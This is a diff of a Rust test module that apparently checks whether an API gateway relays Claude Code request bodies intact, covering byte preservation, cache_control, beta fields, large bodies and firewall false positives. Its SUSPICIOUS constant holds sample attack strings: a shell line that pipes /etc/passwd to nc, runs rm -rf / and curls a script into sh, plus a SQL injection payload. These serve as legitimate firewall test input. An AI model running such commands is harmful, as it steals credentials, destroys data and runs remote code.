@@ -1,4 +1,4 @@
-//! The body: byte for byte where it can be, and in every field that the client relies on.
+//! Checks of the request body: byte for byte where possible, and for every field that the client relies on.
 
 use super::bench::{Bench, is_the_providers, message, no_answer, refusal};
 use super::check::{BlackBox, Check, Finding, Outcome};
@@ -8,11 +8,12 @@ use crate::services::verify::request::NO_MODEL;
 use serde_json::{Value, json};
 
 const NO_BETAS: &str = "CLAUDE_CODE_DISABLE_EXPERIMENTAL_BETAS=1";
-/// A field of a release to come.
+/// A field that does not exist yet.
 const UNKNOWN: &str = "cf_aig_conformance";
-/// The first block of Claude Code's system prompt; Anthropic strips it when it is the first block and a block of its own.
+/// The first block of Claude Code's system prompt. Anthropic strips it if it is a separate block in
+/// first place.
 const ATTRIBUTION: &str = "x-anthropic-billing-header: cc_version=2.1.330; cc_entrypoint=sdk-cli;";
-/// As large as a long session's.
+/// As large as in a long session.
 const LARGE: usize = 200 * 1000;
 
 pub(super) const CHECKS: &[Check] = &[
@@ -20,7 +21,7 @@ pub(super) const CHECKS: &[Check] = &[
         id: "body-bytes",
         group: "body",
         title: "the body reaches the provider byte for byte",
-        otherwise: "what is written anew may lose what the gateway does not know, and misses caches keyed on the body",
+        otherwise: "a re-serialized body may lose fields that the gateway does not know, and misses caches keyed on the body",
         black_box: BlackBox::No,
         run: bytes,
     },
@@ -36,7 +37,7 @@ pub(super) const CHECKS: &[Check] = &[
         id: "cache-control",
         group: "body",
         title: "cache_control stays on system blocks, tools and messages",
-        otherwise: "nothing is read from the prompt cache, and every turn costs its full price",
+        otherwise: "nothing is read from the prompt cache, and every turn costs the full price",
         black_box: BlackBox::No,
         run: cache_control,
     },
@@ -44,7 +45,7 @@ pub(super) const CHECKS: &[Check] = &[
         id: "thinking",
         group: "body",
         title: "thinking: {\"type\": \"adaptive\"} reaches the provider",
-        otherwise: "400 that names thinking, or no thinking",
+        otherwise: "a 400 about thinking, or no thinking",
         black_box: BlackBox::No,
         run: |bench| same(bench, "/thinking").around("CLAUDE_CODE_DISABLE_ADAPTIVE_THINKING=1"),
     },
@@ -52,7 +53,7 @@ pub(super) const CHECKS: &[Check] = &[
         id: "beta-fields",
         group: "body",
         title: "context_management, output_config and tool fields reach the provider with their betas",
-        otherwise: "the features are lost, or 400 names the field whose beta came without it",
+        otherwise: "the features are lost, or a 400 names a field whose beta header arrived without it",
         black_box: BlackBox::No,
         run: beta_fields,
     },
@@ -60,7 +61,7 @@ pub(super) const CHECKS: &[Check] = &[
         id: "unknown-fields",
         group: "body",
         title: "unknown fields reach the provider",
-        otherwise: "a feature breaks with the release that brings its field",
+        otherwise: "a new feature breaks with the release that adds its field",
         black_box: BlackBox::Free,
         run: unknown,
     },
@@ -68,22 +69,22 @@ pub(super) const CHECKS: &[Check] = &[
         id: "large-body",
         group: "body",
         title: "a body of 200 kB passes",
-        otherwise: "sessions fail when they have grown, with 413 or no answer",
+        otherwise: "long sessions fail, with 413 or no response",
         black_box: BlackBox::Free,
         run: large,
     },
     Check {
         id: "waf",
         group: "body",
-        title: "bodies with shell, SQL, HTML and paths in them pass",
-        otherwise: "prompts that hold code fail at random with 403",
+        title: "bodies that contain shell, SQL, HTML and paths pass",
+        otherwise: "prompts that contain code fail with 403, seemingly at random",
         black_box: BlackBox::Free,
         run: waf,
     },
 ];
 
-/// An ordinary body. Blanks, escapes and the order of its keys are such that a JSON library would write
-/// none of them so.
+/// An ordinary body. Its white space, escapes and key order are such that no JSON library would
+/// write them.
 pub(super) fn plain(model: &str) -> Vec<u8> {
     let model = json!(model);
     format!(
@@ -93,7 +94,8 @@ pub(super) fn plain(model: &str) -> Vec<u8> {
     .into_bytes()
 }
 
-/// One that has everything: what Claude Code 2.1.330 sends, and what it may send tomorrow.
+/// A body with everything that Claude Code 2.1.330 sends, and unknown fields that later versions
+/// may send.
 pub(super) fn rich(model: &str) -> Vec<u8> {
     let mut body = json!({
         "model": model,
@@ -126,14 +128,14 @@ pub(super) fn rich(model: &str) -> Vec<u8> {
     body.to_string().into_bytes()
 }
 
-/// What `count_tokens` takes: no `max_tokens`.
+/// The body for `count_tokens`, without `max_tokens`.
 pub(super) fn to_count(model: &str) -> Vec<u8> {
     json!({"model": model, "messages": [{"role": "user", "content": "How many tokens is this?"}]})
         .to_string()
         .into_bytes()
 }
 
-/// A field whose beta must come along, for a model that does not exist.
+/// A body with a field that requires a beta header, for a model that does not exist.
 pub(super) fn with_beta_field() -> Vec<u8> {
     let mut body = for_free("hi");
     body["context_management"] = json!({"edits": []});
@@ -154,16 +156,16 @@ fn bytes(bench: &Bench) -> Finding {
         };
     };
     if let Some(encoding) = request.header("content-encoding") {
-        return Finding::degraded(format!("it arrived packed: {encoding}"));
+        return Finding::degraded(format!("it arrived compressed: {encoding}"));
     }
     if request.body == sent {
         return Finding::works(format!("{} bytes", sent.len()));
     }
     let (sent, got) = (serde_json::from_slice::<Value>(&sent).unwrap_or_default(), request.json());
     if sent == got {
-        return Finding::degraded("written anew: the same values, other bytes");
+        return Finding::degraded("re-serialized: same values, different bytes");
     }
-    Finding::degraded(format!("written anew: {}", difference(&sent, &got)))
+    Finding::degraded(format!("re-serialized: {}", difference(&sent, &got)))
 }
 
 /// The first difference between two objects, in words.
@@ -184,7 +186,7 @@ fn difference(sent: &Value, got: &Value) -> String {
     parts.collect::<Vec<_>>().join("; ")
 }
 
-/// A part of the rich body must arrive as it was sent.
+/// A part of the rich body must arrive unchanged.
 fn same(bench: &Bench, pointer: &str) -> Finding {
     let request = match arrived(bench) {
         Ok(request) => request,
@@ -194,7 +196,7 @@ fn same(bench: &Bench, pointer: &str) -> Finding {
     let (sent, got) =
         (sent.pointer(pointer).cloned().unwrap_or_default(), request.json().pointer(pointer).cloned());
     match got {
-        Some(got) if got == sent => Finding::works("as it was sent"),
+        Some(got) if got == sent => Finding::works("unchanged"),
         Some(got) => {
             let got: String = got.to_string().chars().take(160).collect();
             Finding::broken(format!("it arrived as {got}"))
@@ -211,7 +213,7 @@ fn cache_control(bench: &Bench) -> Finding {
     };
     let (sent, got): (Value, Value) =
         (serde_json::from_slice(&rich(bench.model())).unwrap_or_default(), request.json());
-    // wherever the blocks stand now: order is another check's business
+    // regardless of position: another check covers the order
     let marks = |value: &Value| {
         let mut marks = Vec::new();
         collect(value, &mut marks);
@@ -270,12 +272,12 @@ fn unknown(bench: &Bench) -> Finding {
         if said.contains(UNKNOWN) {
             Finding::works(format!("the provider: {said}"))
         } else {
-            Finding::broken(format!("the provider does not mind {UNKNOWN}, so it did not arrive: {said}"))
+            Finding::broken(format!("the provider did not reject {UNKNOWN}, so it did not arrive: {said}"))
         }
     })
 }
 
-/// A body that must pass: it arrives at the echo as it was sent, or the provider refuses its model.
+/// A body that must pass: it reaches the echo unchanged, or the provider refuses its model.
 fn passes(bench: &Bench, text: &str) -> Finding {
     let mut body = for_free(text);
     if bench.echo().is_some() {
@@ -295,7 +297,7 @@ fn passes(bench: &Bench, text: &str) -> Finding {
     if request.json().to_string().contains(&json!(text).to_string().trim_matches('"').to_owned()) {
         Finding::works(format!("{} bytes", request.body.len()))
     } else {
-        Finding::broken("it arrived, and its text was changed")
+        Finding::broken("it arrived with changed text")
     }
 }
 
@@ -303,7 +305,7 @@ fn large(bench: &Bench) -> Finding {
     passes(bench, &"0123456789 lorem ipsum ".repeat(LARGE / 23))
 }
 
-/// What firewalls take for attacks, and what prompts are full of.
+/// Text that firewalls mistake for attacks and that prompts often contain.
 const SUSPICIOUS: &[(&str, &str)] = &[
     ("shell", "; cat /etc/passwd | nc 192.0.2.1 4444 && rm -rf / $(curl -s http://192.0.2.1/x.sh | sh)"),
     ("SQL", "' OR '1'='1'; DROP TABLE users; -- UNION SELECT password FROM accounts"),
